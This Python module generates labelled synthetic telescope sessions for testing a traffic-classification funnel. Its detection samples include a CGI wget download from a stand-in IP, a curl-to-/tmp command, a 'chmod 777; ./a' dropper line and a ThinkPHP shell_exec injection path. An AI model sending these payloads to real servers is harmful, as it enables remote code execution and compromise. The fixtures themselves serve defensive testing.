"""Synthetic telescope sessions whose funnel verdict is known by construction."""

from __future__ import annotations

import ipaddress
import struct

import numpy as np

from ipreuse.funnel import KEPT, Rule, SessionRecord, parse_http, parse_sni

BLOCKED_NET = "198.18.0.0/15"
USER_RULES = [Rule("p2p_skype", "magic_hex", "17030100", "p2p")]

# (stage, reason, rule) -> how to build it
LABELS = [
    ("network", "blocklist", "blocklist"),
    ("transport", "multi_ip", "multi_ip"),
    ("transport", "multi_port", "multi_port"),
    ("session", "no_handshake", "no_handshake"),
    ("session", "no_payload", "no_payload"),
    ("application", "shellcode", "shellcode_wget"),
    ("application", "shellcode", "shellcode_curl"),
    ("application", "shellcode", "shellcode_chmod"),
    ("application", "shellcode", "shellcode_shell"),
    ("application", "dnp3", "dnp3"),
    ("application", "tds", "tds"),
    ("application", "p2p", "p2p_bittorrent"),
    ("application", "p2p", "p2p_bitcoin_main"),
    ("application", "p2p", "p2p_ipfs"),
    ("application", "p2p", "p2p_skype"),
    ("application", "proxy", "proxy_connect"),
    ("application", "proxy", "proxy_full_uri"),
    ("application", "healthcheck", "healthcheck_route53"),
    (KEPT, "", ""),
]

_BENIGN_UA = [
    "Amazon Simple Notification Service Agent",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "GitHub-Hookshot/8d3c1f2",
    "Mozilla/5.0 (X11; Linux x86_64)",
]
_BENIGN_PATH = ["/", "/webhook", "/api/v1/events", "/status", "/sns/notify"]


def _http(method: str, path: str, host: str, ua: str | None = None) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    if ua:
        lines.append(f"User-Agent: {ua}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def client_hello(server_name: str) -> bytes:
    name = server_name.encode()
    sni = struct.pack(">BH", 0, len(name)) + name
    ext = struct.pack(">HH", 0, len(sni) + 2) + struct.pack(">H", len(sni)) + sni
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + struct.pack(">H", len(ext)) + ext
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def _application_payload(rule: str, rng: np.random.Generator, host: str) -> tuple[bytes, int]:
    """Payload and destination port that trip ``rule`` and nothing before it."""
    if rule == "shellcode_wget":
        return _http("GET", "/cgi-bin/x?c=wget%20http://203.0.113.9/a", host), 80
    if rule == "shellcode_curl":
        return _http("POST", "/run?cmd=CURL+-o+/tmp/a", host), 8080
    if rule == "shellcode_chmod":
        return b"cd /tmp; chmod 777 a; ./a\n", 23
    if rule == "shellcode_shell":
        return _http("GET", "/index.php?s=/Index/think/app/invokefunction&function=Shell_exec", host), 80
    if rule == "dnp3":
        return b"\x05\x64\x05\xc9\x01\x00\x00\x04\xe9\x21", 20000
    if rule == "tds":
        return b"\x12\x01\x00\x2f\x00\x00\x01\x00" + bytes(39), 1433
    if rule == "p2p_bittorrent":
        return b"\x13BitTorrent protocol" + bytes(8) + bytes(range(20)), int(rng.integers(6881, 6890))
    if rule == "p2p_bitcoin_main":
        return bytes.fromhex("f9beb4d9") + b"version\x00\x00\x00\x00\x00" + bytes(range(8)), 8333
    if rule == "p2p_ipfs":
        return b"\x13/multistream/1.0.0\n", 4001
    if rule == "p2p_skype":
        return bytes.fromhex("17030100") + bytes(range(12)), int(rng.integers(1024, 65535))
    if rule == "proxy_connect":
        return _http("CONNECT", "example.org:443", "example.org:443"), 3128
    if rule == "proxy_full_uri":
        return _http("GET", "http://example.org/", "example.org"), 8080
    if rule == "healthcheck_route53":
        return _http("GET", "/health", host, "Amazon-Route53-Health-Check-Service (ref 1a2b; report http://amzn.to/1vsZADi)"), 80
    raise KeyError(rule)


def _benign(rng: np.random.Generator, host: str) -> tuple[bytes, int]:
    if rng.random() < 0.5:
        ua = _BENIGN_UA[int(rng.integers(len(_BENIGN_UA)))]
        path = _BENIGN_PATH[int(rng.integers(len(_BENIGN_PATH)))]
        return _http("POST", path, host, ua), 80
    return client_hello(host), 443


class _Addresses:
    def __init__(self, rng: np.random.Generator) -> None:
        self.rng = rng
        self.used: set[str] = set()
        self.blocked = ipaddress.ip_network(BLOCKED_NET)

    def source(self) -> str:
        # unique, outside the blocked range
        while True:
            ip = str(ipaddress.IPv4Address(int(self.rng.integers(0x0B000000, 0xC6000000))))
            if ip not in self.used and ipaddress.IPv4Address(ip) not in self.blocked:
                self.used.add(ip)
                return ip

    def blocked_source(self) -> str:
        return str(self.blocked[int(self.rng.integers(1, self.blocked.num_addresses - 1))])

    def telescope(self) -> str:
        return f"52.{int(self.rng.integers(0, 256))}.{int(self.rng.integers(0, 256))}.{int(self.rng.integers(1, 255))}"


def generate(n: int = 10_000, seed: int = 0) -> list[tuple[SessionRecord, tuple[str, str, str]]]:
    """``n`` sessions paired with the (stage, reason, rule) each must receive."""
    rng = np.random.default_rng(seed)
    addr = _Addresses(rng)
    out: list[tuple[SessionRecord, tuple[str, str, str]]] = []

    def add(label, src, dst, port, payload, handshake=True, plen=None):
        http = parse_http(payload)
        sid = f"s{len(out):06d}"
        rec = SessionRecord(
            session_id=sid,
            src_ip=src,
            dst_ip=dst,
            dst_port=port,
            start_time=float(len(out)),
            handshake_complete=handshake,
            client_payload_len=len(payload) if plen is None else plen,
            payload_prefix=payload,
            http=http,
            tls_sni=parse_sni(payload),
        )
        out.append((rec, label))

    weights = np.array([3 if lab[0] == KEPT else 1 for lab in LABELS], float)
    while len(out) < n:
        label = LABELS[int(rng.choice(len(LABELS), p=weights / weights.sum()))]
        stage, reason, rule = label
        dst = addr.telescope()
        host = f"{rng.choice(['api', 'hooks', 'cdn'])}.example.com"
        if stage == "network":
            # blocked sources may also spray ports; the earlier stage must win
            payload, port = _benign(rng, host)
            add(label, addr.blocked_source(), dst, port, payload)
        elif stage == "transport":
            if n - len(out) < 2:
                continue
            src = addr.source()
            for k in range(min(int(rng.integers(2, 5)), n - len(out))):
                payload, port = _benign(rng, host)
                if reason == "multi_ip":
                    add(label, src, str(ipaddress.IPv4Address(dst) + k), port, payload)
                else:
                    add(label, src, dst, port + 1000 * k, payload)
        elif stage == "session":
            payload, port = _benign(rng, host)
            if reason == "no_handshake":
                add(label, addr.source(), dst, port, b"", handshake=False, plen=0)
            else:
                add(label, addr.source(), dst, port, b"", plen=0)
        elif stage == "application":
            payload, port = _application_payload(rule, rng, host)
            add(label, addr.source(), dst, port, payload)
        else:
            payload, port = _benign(rng, host)
            add(label, addr.source(), dst, port, payload)
    return out
